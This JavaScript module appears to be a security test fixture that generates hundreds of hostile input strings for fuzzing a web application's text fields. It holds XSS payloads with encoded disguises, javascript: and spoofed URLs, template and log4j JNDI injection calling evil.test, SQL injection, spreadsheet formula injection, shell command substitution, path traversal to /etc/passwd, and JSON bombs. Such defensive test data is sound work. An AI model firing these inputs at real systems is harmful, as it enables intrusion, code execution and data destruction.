// What people who mean harm write into a title, a note, a name: more than five hundred texts, in families.
//
/* eslint-disable max-len, no-script-url, no-restricted-syntax -- texts of attackers */
// A text that is run calls `canary`; one that makes the page load something asks evil.test.

const run = 'canary()', load = 'https://evil.test/x';

/** Ways from text into a document, each with the script that it would run. */
const markup = [
  `<script>${run}</script>`, `<script src=${load}></script>`, `</script><script>${run}</script>`, `<script>${run}//`,
  `<img src=x onerror=${run}>`, `<img src=${load}>`, `<img src=x onerror="${run}" x='`, `<image src=x onerror=${run}>`,
  `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${run}"><a><text>x</text></a></svg>`, `<svg><use href="${load}#x"/></svg>`,
  `<math><mtext><style><img src=x onerror=${run}></style></mtext></math>`, `<body onload=${run}>`,
  `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src=${load}></iframe>`, `<object data="javascript:${run}"></object>`, `<embed src="${load}">`,
  `<video><source onerror=${run}></video>`, `<audio src=x onerror=${run}>`, `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}>`,
  `<marquee onstart=${run}>x</marquee>`, `<a href="javascript:${run}">press</a>`, `<a href=${load} ping=${load}>press</a>`,
  `<form action="javascript:${run}"><button>press</button></form>`, `<button formaction="javascript:${run}">press</button>`,
  `<link rel=stylesheet href=${load}>`, `<style>@import '${load}';</style>`, `<style>*{background:url(${load})}</style>`,
  `<meta http-equiv=refresh content="0;url=${load}">`, '<base href="https://evil.test/">', '<template shadowrootmode=open>' +
  `<img src=x onerror=${run}></template>`, `<tr-ribbon servers="${load}"></tr-ribbon>`, '<slot name=x></slot>',
  '<tr-pivot-menu type=domain value=evil.test></tr-pivot-menu>', `<x onclick=${run} tabindex=1 id=x>x</x>`,
  `"><img src=x onerror=${run}>`, `'><svg onload=${run}>`, `" onmouseover="${run}" x="`, `' onfocus='${run}' autofocus x='`,
  `--><img src=x onerror=${run}><!--`, `]]><img src=x onerror=${run}>`, `</title><svg onload=${run}>`,
  `</textarea><svg onload=${run}>`, `</style><svg onload=${run}>`, `<noscript><p title="</noscript><svg onload=${run}>">`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`, `<?xml-stylesheet href="${load}"?>`, `<![CDATA[<svg onload=${run}>]]>`,
  `<p style="width:expression(${run})">x</p>`, `<p style="background:url('${load}')">x</p>`, `\`onerror=${run}\``,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(${run} )//%0D%0A</stYle/</titLe/</teXtarEa/--!>\\x3csVg/<sVg/oNloAd=${run}//>\\x3e`,
];

const code = (/** @type {string} */ text, /** @type {(point: number) => string} */ one) =>
  [...text].map((letter) => one(letter.codePointAt(0) ?? 0)).join('');
/** How the same is written so that who looks for it does not find it. */
const disguises = /** @type {((text: string) => string)[]} */ ([
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => text.replaceAll('<', '<\u0000').replaceAll('>', '\u200b>'),
  (text) => code(text, (point) => `&#x${point.toString(16)};`),
  (text) => code(text, (point) => (point < 128 ? `%${point.toString(16).padStart(2, '0')}` : '')),
  (text) => code(text, (point) => (point > 32 && point < 127 ? String.fromCodePoint(point + 0xfee0) : ' ')),
  (text) => code(text, (point) => `\\u${point.toString(16).padStart(4, '0')}`),
]);

const addresses = ['javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'java\nscript:', '\u0001javascript:',
  'javascript&colon;', 'vbscript:', 'data:text/html,<script>', 'data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==',
  'blob:https://evil.test/', 'view-source:javascript:', 'feed:javascript:', 'jar:https://evil.test!/', 'file:///etc/passwd#',
  '//evil.test/', '/\\evil.test/', 'https:evil.test/', 'https://bit.ly@evil.test/', 'https://evil.test\\@bit.ly/',
  'https://xn--80ak6aa92e.test/', 'https://\u0430pple.test/', 'https://evil.test/\u202egpj.exe', 'filesystem:https://evil.test/',
].map((scheme) => `${scheme}${run}`);
const links = addresses.flatMap((address) => [address, `[press](${address})`, `[press](<${address}> "x")`, `![x](${address})`,
  `<${address}>`, `[x]: ${address}`]);

const prototypes = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__',
  'isPrototypeOf', 'toJSON', 'then', 'length', 'name', 'id', 'innerHTML', 'null', 'undefined', 'NaN', 'true', 'item'];
const languages = ['{{constructor.constructor("canary()")()}}', '${canary()}', '#{canary()}', '<%= canary() %>', '{% include x %}',
  '{{=canary()}}', '[[canary()]]', '${jndi:ldap://evil.test/x}', '%{canary()}', '@{canary()}', '*{T(x)}', '{0}{1}%1$s', '%s%n%x%p',
  '%T', "' OR 1=1 --", "'; DROP TABLE cases; --", '" UNION SELECT 1 --', "1' AND SLEEP(9) --", "\\'; --", '*:*', 'title:(a OR',
  '"a" AND NOT (b', '[* TO *}', '/.*/', 'a~0.1^9', '\\', '\\"', 'a && b || !c', '+a -b', '=1+1', '=HYPERLINK("https://evil.test")',
  '+cmd|\' /C calc\'!A0', '@SUM(1)', '-2+3', '\t=1+1', '\r=1+1', '=cmd|x!a;', 'a,"b",c', '"a""b', 'a\r\nX-Header: b', '../../etc/passwd',
  '..\\..\\x', 'C:\\con', '%2e%2e%2f', '~root', '`id`', '$(id)', ';id|id&', '{"a":1}', '[1,', '"\\u0000"', '{"__proto__":{"x":1}}',
  '-----BEGIN CERTIFICATE-----', 'tr-case=casebook-1', '#tr-case=x', '??!<', '# heading', '***bold***', '|a|b|\n|-|-|\n|c|d|',
  '```\ncode', '> > > > quote', '- - - - list', '~~~', '<https://evil.test/auto>', '&lt;b&gt;', '&nbsp;&#0;&#xD800;', '&amp;amp;'];

const between = (/** @type {number} */ from, /** @type {number} */ to) =>
  Array.from({ length: to - from + 1 }, (_, at) => String.fromCodePoint(from + at));
const around = (/** @type {string} */ one) => `invoice${one}fdp.exe`;
const controls = [...between(0, 0x1f), ...between(0x7f, 0x9f)].map(around);
const directions = [...between(0x202a, 0x202e), ...between(0x2066, 0x2069), '\u200e', '\u200f', '\u061c'].flatMap((one) =>
  [around(one), `${one}evil.test/moc.ylt.ib`, `bit.ly${one}`, one.repeat(50)]);
const invisible = [...between(0x200b, 0x200d), ...between(0x2060, 0x2064), '\u00ad', '\u034f', '\u115f', '\u1160', '\u17b4',
  '\u180e', '\u2028', '\u2029', '\u3164', '\ufeff', '\uffa0', '\ufff9', '\ufffa', '\u{e0001}', '\u{e0041}', '\u{1d173}', '\ufe0f',
  '\u{e0100}', '\ufffe', '\uffff', '\u{10ffff}', '\ue000', '\uf8ff', '\u{f0000}'].map((one) => `pay${one}pal`);
const halves = ['\ud800', '\udbff', '\udc00', '\udfff', '\ud83d', '\udc00\ud800', 'a\ud83d', '\ude00a', '\ud800\ud800\udc00'].map((one) =>
  `half ${one} half`);
const shapes = ['\u05e9\u05dc\u05d5\u05dd <b>abc</b> 123', 'abc \u0645\u0631\u062d\u0628\u0627 <i>', '\u202b(\u05d0)\u202c', '\u0645\u0635\u0631.test',
  `Z${'\u0300'.repeat(500)}`, `a${'\u0489'.repeat(70)}b`, '\u0e01\u0e49\u0e49\u0e49\u0e49', '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}'.repeat(9),
  '\u{1f1e9}'.repeat(31), '\ufdfd'.repeat(9), '\u0430\u0440\u0440\u0456\u0435.test', '\u2024\u2025\u2026', '\uff0e\uff0f\uff1a', '1\u2044\u0032',
  'W'.repeat(3000), '\u6f22'.repeat(900), 'a '.repeat(900), ' '.repeat(200) + 'end', '\n'.repeat(60) + 'end', '.'.repeat(400),
  'http://' + 'a.'.repeat(150) + 'test', 'i\u0307\u0131\u0130', '\u212a\u017f', 'stra\u00dfe', '\u1e9b\u0323', '\u{1d4d0}\u{1d4d1}'];

/** Each once. */
export const hostileStrings = [...new Set([
  ...markup.flatMap((text) => disguises.map((disguise) => disguise(text))), ...links, ...prototypes, ...languages, ...controls,
  ...directions, ...invisible, ...halves, ...shapes,
])];

/** A megabyte, of markup. */
export const megabyte = markup[4].repeat(Math.ceil(1_048_576 / markup[4].length));

/** JSON that is small to send and large, or endless, to read. @type {Record<string, string>} */
export const jsonBombs = {
  'deep lists': '['.repeat(100_000),
  'deep objects': '{"a":'.repeat(100_000),
  'wide lists': `[${'0,'.repeat(2_000_000)}0]`,
  'wide objects': `{${Array.from({ length: 200_000 }, (_, at) => `"k${at}":0`).join()}}`,
  'a list of nothing': `[${'{},'.repeat(500_000)}{}]`,
  'prototypes': '{"__proto__":{"data":[1],"polluted":1},"constructor":{"prototype":{"polluted":1}},"data":{"__proto__":[]}}',
  'a long number': `[${'9'.repeat(100_000)}]`,
  'a long text': JSON.stringify([megabyte]),
};
